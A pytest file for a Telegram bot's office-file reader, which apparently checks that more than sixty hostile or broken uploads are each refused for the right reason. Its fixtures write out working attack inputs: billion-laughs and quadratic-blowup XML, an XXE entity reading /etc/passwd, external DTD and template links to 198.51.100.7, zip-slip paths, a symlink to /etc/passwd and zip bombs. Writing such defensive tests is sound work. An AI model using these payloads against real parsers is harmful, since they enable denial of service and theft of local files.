"""Files that attack, are broken or are something else: each refused for its own reason."""

import io
import stat
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from bot.texts import roadmap as texts
from roadmap import guarding, packages
from roadmap.guarding import read_bytes, read_file
from roadmap.refusals import RefusalCode, Refused

DATA = Path(__file__).with_name("data")
XLSX = (DATA / "roadmap_krc_sample_2026_2027.xlsx").read_bytes()
DOCX = (DATA / "roadmap_region_2022.docx").read_bytes()
SHEET = "xl/worksheets/sheet1.xml"
WORD = "word/document.xml"
TYPES = "[Content_Types].xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")

Change = bytes | Callable[[bytes], bytes] | None


def edited(base: bytes, changes: Mapping[str, Change], *, stored: bool = False) -> bytes:
    """The office file with parts replaced, changed, removed (None) or added."""
    out = io.BytesIO()
    packing = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", packing) as new:
        names = {info.filename for info in old.infolist()}
        for name in names:
            change = changes.get(name, old.read(name))
            if change is not None:
                new.writestr(name, change(old.read(name)) if callable(change) else change)
        for name, change in changes.items():
            if name not in names and isinstance(change, bytes):
                new.writestr(name, change)
    return out.getvalue()


def sheet(body: str, tail: str = "") -> bytes:
    xml = f'<?xml version="1.0"?><worksheet {MAIN}><sheetData>{body}</sheetData>{tail}</worksheet>'
    return edited(XLSX, {SHEET: xml.encode()})


def word(body: str) -> bytes:
    xml = f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'
    return edited(DOCX, {WORD: xml.encode()})


def rows(count: int, cell: str = "<v>1</v>") -> str:
    return "".join(f'<row r="{i}"><c r="A{i}">{cell}</c></row>' for i in range(1, count + 1))


def laughs(depth: int) -> bytes:
    entities = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, depth)
    )
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&l{depth - 1};</x>'.encode()


def before_root(dtd: str) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        head, mark, rest = xml.partition(b"?>")
        return head + mark + dtd.encode() + rest if mark else dtd.encode() + xml

    return change


def relationship(kind: str, target: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships {RELS}><Relationship Id="r1" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def zip_of(parts: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts:
            made.writestr(name, data)
    return out.getvalue()


def with_shared_strings(types: bytes) -> bytes:
    """Content types that name the part of shared strings (the sample's texts are inline)."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    return types.replace(b"</Types>", part.encode())


def encrypted() -> bytes:
    """The flag of an encrypted entry in every local and central header."""
    data = bytearray(XLSX)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            data[start + at] |= 1
            start = data.find(mark, start + 4)
    return bytes(data)


def symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zip_of([(TYPES, b"<Types/>"), (link, b"/etc/passwd")])


def overlapping() -> bytes:
    """Two directory entries for the bytes of one part, as in bombs without recursion."""
    data = zip_of([(TYPES, b"<Types/>"), ("xl/a.xml", bytes(range(256)) * 64)])
    start = data.rfind(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entry = data[start:end]
    copies = b"".join(entry.replace(b"xl/a.xml", b"xl/%c.xml" % c) for c in b"bcdefghijk")
    record = bytearray(data[end:])
    struct.pack_into("<HHI", record, 8, 12, 12, end - data.find(b"PK\x01\x02") + len(copies))
    return data[:end] + copies + bytes(record)


def lying_directory() -> bytes:
    """An end record that claims a directory of a gigabyte."""
    data = bytearray(XLSX)
    struct.pack_into("<I", data, data.rfind(b"PK\x05\x06") + 12, 1_000_000_000)
    return bytes(data)


def damaged(base: bytes) -> bytes:
    """A flipped byte inside the packed worksheet or document."""
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        name = SHEET if SHEET in package.namelist() else WORD
        at = package.getinfo(name).header_offset + 30 + len(name) + 40
    return base[:at] + bytes([base[at] ^ 0xFF]) + base[at + 1 :]


def big(size: int) -> bytes:
    return b"<?xml version='1.0'?><x>" + b" " * size + b"</x>"


E = RefusalCode
HOSTILE: dict[str, tuple[Callable[[], bytes], RefusalCode]] = {
    # something else
    "nothing at all": (lambda: b"", E.EMPTY),
    "a text": ("Дорожная карта".encode, E.WRONG_TYPE),
    "a PDF": (lambda: b"%PDF-1.7\n" + b"0" * 999, E.WRONG_TYPE),
    "an RTF": (lambda: rb"{\rtf1\ansi }", E.WRONG_TYPE),
    "a web page named docx": (lambda: b"<html><table></table></html>", E.WRONG_TYPE),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 99, E.WRONG_TYPE),
    "a gzip": (lambda: b"\x1f\x8b\x08\0" + b"\0" * 99, E.WRONG_TYPE),
    "zeros": (lambda: b"\0" * 1_000_000, E.WRONG_TYPE),
    "a program": (lambda: b"MZ" + b"\x90" * 999, E.WRONG_TYPE),
    "an ordinary zip": (lambda: zip_of([("readme.txt", b"hello")]), E.WRONG_TYPE),
    "an OpenDocument": (
        lambda: zip_of([("mimetype", b"application/vnd.oasis.opendocument.text")]),
        E.WRONG_TYPE,
    ),
    "a presentation": (
        lambda: zip_of([(TYPES, b'<Types a="presentationml.presentation.main+xml"/>')]),
        E.WRONG_TYPE,
    ),
    "a binary workbook": (
        lambda: zip_of([(TYPES, b'<Types a="vnd.ms-excel.sheet.binary.main"/>')]),
        E.WRONG_TYPE,
    ),
    "an old Word document": (lambda: OLE + b"\0" * 4096, E.OLD_FORMAT),
    "an old workbook": (lambda: OLE + "Workbook".encode("utf-16-le") + b"\0" * 999, E.OLD_FORMAT),
    # a password
    "a document with a password": (
        lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 999,
        E.PASSWORD,
    ),
    "an encrypted zip": (encrypted, E.PASSWORD),
    # broken
    "a beginning only": (lambda: XLSX[:3000], E.BROKEN),
    "a document cut in half": (lambda: DOCX[: len(DOCX) // 2], E.BROKEN),
    "an end only": (lambda: b"PK\x03\x04" + XLSX[-400:], E.BROKEN),
    "just a signature": (lambda: b"PK\x03\x04", E.BROKEN),
    "a flipped byte in a sheet": (lambda: damaged(XLSX), E.BROKEN),
    "a flipped byte in a document": (lambda: damaged(DOCX), E.BROKEN),
    "a sheet that is not XML": (lambda: edited(XLSX, {SHEET: b"\x01\x02"}), E.BROKEN),
    "a document that is not XML": (lambda: edited(DOCX, {WORD: b"hello"}), E.BROKEN),
    "a sheet cut off": (lambda: edited(XLSX, {SHEET: lambda x: x[: len(x) // 2]}), E.BROKEN),
    "a document cut off": (lambda: edited(DOCX, {WORD: lambda x: x[: len(x) // 2]}), E.BROKEN),
    "no document inside": (lambda: edited(DOCX, {WORD: None}), E.BROKEN),
    "no workbook inside": (lambda: edited(XLSX, {"xl/workbook.xml": None}), E.BROKEN),
    "no relationships": (lambda: edited(DOCX, {"_rels/.rels": None}), E.BROKEN),
    "an unknown encoding": (
        lambda: edited(XLSX, {SHEET: b"<?xml version='1.0' encoding='klingon'?><x/>"}),
        E.BROKEN,
    ),
    "a cell without a place": (lambda: sheet('<row r="1"><c r="1A"><v>1</v></c></row>'), E.BROKEN),
    "a row that is no number": (lambda: sheet('<row r="x"/>'), E.BROKEN),
    "a merge upside down": (
        lambda: sheet(rows(2), '<mergeCells><mergeCell ref="C9:A1"/></mergeCells>'),
        E.BROKEN,
    ),
    "a part outside the package": (
        lambda: zip_of([(TYPES, b"<Types/>"), ("../../etc/cron.d/x", b"x")]),
        E.BROKEN,
    ),
    "a part at the root": (
        lambda: zip_of([(TYPES, b"<Types/>"), ("/etc/passwd", b"x")]),
        E.BROKEN,
    ),
    "a symbolic link": (symlink, E.BROKEN),
    # bombs
    "a part of 200 MB of blanks": (
        lambda: edited(XLSX, {"xl/media/x.bin": bytes(200_000_000)}),
        E.BOMB,
    ),
    "a sheet of 30 MB": (lambda: edited(XLSX, {SHEET: big(30_000_000)}), E.BOMB),
    "a document of 30 MB": (lambda: edited(DOCX, {WORD: big(30_000_000)}), E.BOMB),
    "styles of 30 MB": (lambda: edited(XLSX, {"xl/styles.xml": big(30_000_000)}), E.BOMB),
    "content types of 30 MB": (lambda: edited(DOCX, {TYPES: big(30_000_000)}), E.BOMB),
    "five thousand parts": (
        lambda: zip_of([(TYPES, b"<Types/>"), *((f"x/{i}.xml", b"<x/>") for i in range(5000))]),
        E.BOMB,
    ),
    "parts over one another": (overlapping, E.BOMB),
    "a directory that claims a gigabyte": (lying_directory, E.BOMB),
    # entities
    "a billion laughs in a sheet": (lambda: edited(XLSX, {SHEET: laughs(12)}), E.ENTITIES),
    "a billion laughs in a document": (lambda: edited(DOCX, {WORD: laughs(12)}), E.ENTITIES),
    "a billion laughs in shared strings": (
        lambda: edited(XLSX, {"xl/sharedStrings.xml": laughs(12)}),
        E.ENTITIES,
    ),
    "a billion laughs in the content types": (
        lambda: edited(DOCX, {TYPES: laughs(12)}),
        E.ENTITIES,
    ),
    "a billion laughs in a part called picture": (
        lambda: edited(XLSX, {"xl/media/x.png": laughs(12)}),
        E.ENTITIES,
    ),
    "quadratic blowup": (
        lambda: edited(
            DOCX,
            {WORD: f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 9_000}</x>'.encode()},
        ),
        E.ENTITIES,
    ),
    "an entity that is a file": (
        lambda: edited(
            DOCX, {WORD: before_root('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>')}
        ),
        E.ENTITIES,
    ),
    "an entity from the network": (
        lambda: edited(
            XLSX, {SHEET: before_root('<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">')}
        ),
        E.ENTITIES,
    ),
    "an entity in UTF-16": (
        lambda: edited(XLSX, {SHEET: laughs(9).decode().replace("1.0", "1.0", 1).encode("utf-16")}),
        E.ENTITIES,
    ),
    "an entity in the relationships": (
        lambda: edited(DOCX, {"_rels/.rels": laughs(9)}),
        E.ENTITIES,
    ),
    # links
    "a template from the network": (
        lambda: edited(
            DOCX,
            {
                "word/_rels/settings.xml.rels": relationship(
                    "attachedTemplate", "http://198.51.100.7/evil.dotm"
                )
            },
        ),
        E.OUTSIDE_LINK,
    ),
    "an object on a strange share": (
        lambda: edited(
            XLSX,
            {
                "xl/worksheets/_rels/sheet1.xml.rels": relationship(
                    "oleObject", "\\\\198.51.100.7\\x"
                )
            },
        ),
        E.OUTSIDE_LINK,
    ),
    # too far, too many
    "a cell in the last corner": (
        lambda: sheet(rows(3) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        E.FAR_CELL,
    ),
    "a cell in the last column": (
        lambda: sheet('<row r="1"><c r="XFD1"><v>1</v></c></row>'),
        E.FAR_CELL,
    ),
    "a cell in the last row": (
        lambda: sheet('<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'),
        E.FAR_CELL,
    ),
    "a merge of the whole sheet": (
        lambda: sheet(rows(3), '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        E.FAR_CELL,
    ),
    "many merges": (
        lambda: sheet(
            rows(3),
            "<mergeCells>"
            + "".join(f'<mergeCell ref="A{i}:CV{i + 90}"/>' for i in range(1, 2000, 91))
            + "</mergeCells>",
        ),
        E.FAR_CELL,
    ),
    "a hundred thousand rows": (lambda: sheet(rows(100_000)), E.TOO_MANY_ROWS),
    "a million rows": (lambda: sheet("<row><c><v>1</v></c></row>" * 400_000), E.TOO_MANY_ROWS),
    "a million empty rows": (lambda: sheet("<row/>" * 1_300_000), E.TOO_MANY_ROWS),
    "a Word table of 30 000 rows": (
        lambda: word("<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 30_000 + "</w:tbl>"),
        E.TOO_MANY_ROWS,
    ),
    "two million tags": (lambda: word("<w:p/>" * 2_000_000), E.TOO_MUCH),
    "a sheet nested 5 000 deep": (lambda: sheet("<a>" * 5_000 + "</a>" * 5_000), E.TOO_MUCH),
    "a document nested 5 000 deep": (lambda: word("<w:p>" * 5_000 + "</w:p>" * 5_000), E.BROKEN),
    "a text of 6 MB in one cell": (
        lambda: sheet(f'<row><c t="inlineStr"><is><t>{"ф" * 6_000_000}</t></is></c></row>'),
        E.TOO_MUCH,
    ),
    "a long text shared by thousands of cells": (
        lambda: edited(
            XLSX,
            {
                TYPES: with_shared_strings,
                "xl/sharedStrings.xml": (
                    f"<sst {MAIN}><si><t>{'ф' * 30_000}</t></si></sst>".encode()
                ),
                SHEET: (
                    f"<worksheet {MAIN}><sheetData>"
                    + rows(9_000).replace('"><v>1</v>', '" t="s"><v>0</v>')
                    + "</sheetData></worksheet>"
                ).encode(),
            },
        ),
        E.TOO_MUCH,
    ),
    # no table
    "a letter without a table": (lambda: word("<w:p><w:r><w:t>Hi</w:t></w:r></w:p>"), E.NO_TABLE),
    "an empty sheet": (lambda: sheet(""), E.NO_HEADER),
    "a table about something else": (lambda: sheet(rows(20)), E.NO_HEADER),
}


def test_there_are_at_least_sixty() -> None:
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_for_its_reason(name: str) -> None:
    make, code = HOSTILE[name]
    with pytest.raises(Refused) as refused:
        read_bytes(make())
    assert refused.value.code is code
    sentence = texts.refusal(refused.value)
    assert sentence
    assert "{" not in sentence


def test_a_file_beyond_what_telegram_sends_is_not_even_opened(tmp_path: Path) -> None:
    path = tmp_path / "big.docx"
    with path.open("wb") as file:
        file.truncate(packages.MOST_BYTES + 1)
    with pytest.raises(Refused) as refused:
        read_file(path)
    assert refused.value.code is RefusalCode.TOO_LARGE
    assert "20 МБ" in texts.refusal(refused.value)


@pytest.mark.parametrize("name", ["missing.docx", "."])
def test_what_is_no_file_is_said_to_be_none(tmp_path: Path, name: str) -> None:
    with pytest.raises(Refused) as refused:
        read_file(tmp_path / name)
    assert refused.value.code is RefusalCode.NOT_A_FILE


def test_a_fault_of_ours_is_called_ours_and_logged_without_the_text(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(guarding, "CHILD", "tests.roadmap.no_such_module")
    with pytest.raises(Refused) as refused:
        read_bytes(XLSX)
    assert refused.value.code is RefusalCode.FAILED
    assert "failed at" in caplog.text


def test_the_child_has_no_secret_of_the_bot(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BOT_TOKEN", "1:made-up")
    seen: dict[str, object] = {}
    real = subprocess.run

    def watched(*args: object, **options: object) -> object:
        seen.update(options)
        return real(*args, **options)  # type: ignore[call-overload] # passed on as they came

    monkeypatch.setattr(subprocess, "run", watched)
    read_bytes(XLSX)
    assert "BOT_TOKEN" not in dict(seen["env"])  # type: ignore[call-overload] # a dict of strings


def test_limits_end_a_child_that_grows() -> None:
    code = "from roadmap.confined import limit; limit(); x = bytearray(500_000_000)"
    grown = subprocess.run([sys.executable, "-c", code], capture_output=True, check=False)
    assert b"MemoryError" in grown.stderr


def test_honest_oddities_are_no_attack() -> None:
    styled = '<row r="1048576"><c r="XFD1048576" s="1"/></row>'
    linked = relationship("hyperlink", "https://example.org/plan")
    odd = edited(
        XLSX,
        {
            SHEET: lambda xml: xml.replace(b"</sheetData>", styled.encode() + b"</sheetData>"),
            "xl/worksheets/_rels/sheet1.xml.rels": linked,
        },
    )
    assert len(read_bytes(odd).events) == 14
    assert len(read_bytes(edited(XLSX, {}, stored=True)).events) == 14
